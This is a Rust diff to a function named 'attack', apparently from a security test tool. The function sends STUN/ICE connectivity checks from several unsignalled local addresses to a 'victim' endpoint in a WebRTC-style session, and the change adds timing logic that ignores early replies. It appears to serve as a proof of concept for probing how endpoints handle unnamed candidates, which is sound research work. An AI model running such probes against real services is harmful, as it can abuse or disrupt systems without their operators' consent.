@@ -21,7 +21,7 @@ use tokio::{
     net::UdpSocket,
     sync::mpsc,
     task::JoinSet,
-    time::{sleep, timeout},
+    time::{Instant, sleep, timeout},
 };
 use tokio_stream::wrappers::ReceiverStream;
 use tonic::{Streaming, transport::Channel};
@@ -35,6 +35,8 @@ const CANDIDATES_PER_SESSION: usize = 63;
 const SESSIONS_AT_ONCE: usize = 3;
 /// Checks of its own socket after which every other pair has had its turn.
 const CHECKS: usize = 4;
+/// From where no candidate is named, checks are not heard at first.
+const HEARD_AFTER: Duration = Duration::from_millis(300);
 const PATIENCE: Duration = Duration::from_secs(20);
 
 /// With `#` for a number that changes.
@@ -185,17 +187,21 @@ async fn attack(
     let port = socket.local_addr()?.port();
     session.candidate(format!("candidate:own 1 udp 1 {own} {port} typ host")).await?;
     let (credentials, victim) = answer(&mut session, own).await?;
+    let mut unnamed = Vec::new();
     for source in sources.iter().filter(|source| source.is_ipv4() == victim.is_ipv4()) {
-        let source = UdpSocket::bind((*source, 0)).await?;
-        for transaction in 0..3 {
+        unnamed.push(UdpSocket::bind((*source, 0)).await?);
+    }
+    let (begun, mut datagram, mut checks) = (Instant::now(), [0; 2048], 0);
+    while checks < CHECKS {
+        for (source, transaction) in unnamed.iter().zip(checks as u8..) {
             let check = check(&format!("{}:{fragment}", credentials.0), &credentials.1, transaction);
             // Where no route leads there is nothing to be made of it.
             let _ = source.send_to(&check, victim).await;
         }
-    }
-    let mut datagram = [0; 2048];
-    for _ in 0..CHECKS {
         socket.recv_from(&mut datagram).await?;
+        if begun.elapsed() > HEARD_AFTER {
+            checks += 1;
+        }
     }
     session.ask(Ask::Leave(Leave::default())).await?;
     // A stream that is dropped leaves its session behind.
